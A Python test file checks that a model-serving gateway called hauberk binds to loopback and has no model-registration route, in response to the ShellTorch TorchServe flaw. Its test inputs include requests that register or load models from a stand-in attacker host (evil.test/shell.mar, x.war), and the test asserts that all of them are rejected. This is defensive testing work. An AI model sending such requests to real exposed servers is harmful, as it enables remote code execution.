"""ShellTorch (CVE-2023-43654 and friends): TorchServe's management API, bound to 0.0.0.0
without authentication, registered models from any URL, which ran code. The gateway binds
loopback by default and has no route that registers, uploads or loads a model."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from starlette.testclient import TestClient

from hauberk.gateway import GatewayConfig, KeyStore, create_app, parse_config
from hauberk.models import InputSpec, SklearnModel


def test_no_model_registration_and_loopback_default(tmp_path: Path, iris_model: Any) -> None:
    assert GatewayConfig().host == "127.0.0.1"
    store = KeyStore(tmp_path / "keys.json")
    _, admin = store.create("admin")
    model = SklearnModel(iris_model, input_spec=InputSpec(shape=(4,), dtype="float64"))
    cfg = parse_config({"audit": {"ledger": str(tmp_path / "a.db")}}, source="t", base_dir=tmp_path)
    app = create_app(cfg, model, keys=store)
    attempts = [
        ("POST", "/models?url=http://evil.test/shell.mar&initial_workers=1"),
        ("POST", "/models"),
        ("PUT", "/models/iris"),
        ("POST", "/v1/models/upload"),
        ("POST", "/admin/versions/load"),
        ("POST", "/admin/models"),
        ("POST", "/workflows?url=http://evil.test/x.war"),
    ]
    with TestClient(app) as client:
        for method, path in attempts:
            r = client.request(method, path, headers={"Authorization": f"Bearer {admin}"})
            assert r.status_code in (404, 405), (method, path)
            assert r.json()["error"]["code"] in ("not_found", "method_not_allowed")
        r = client.post(
            "/admin/versions/switch",
            json={"version": "http://evil.test/shell.mar"},
            headers={"Authorization": f"Bearer {admin}"},
        )
        assert r.status_code == 404 and r.json()["error"]["code"] == "unknown_version"
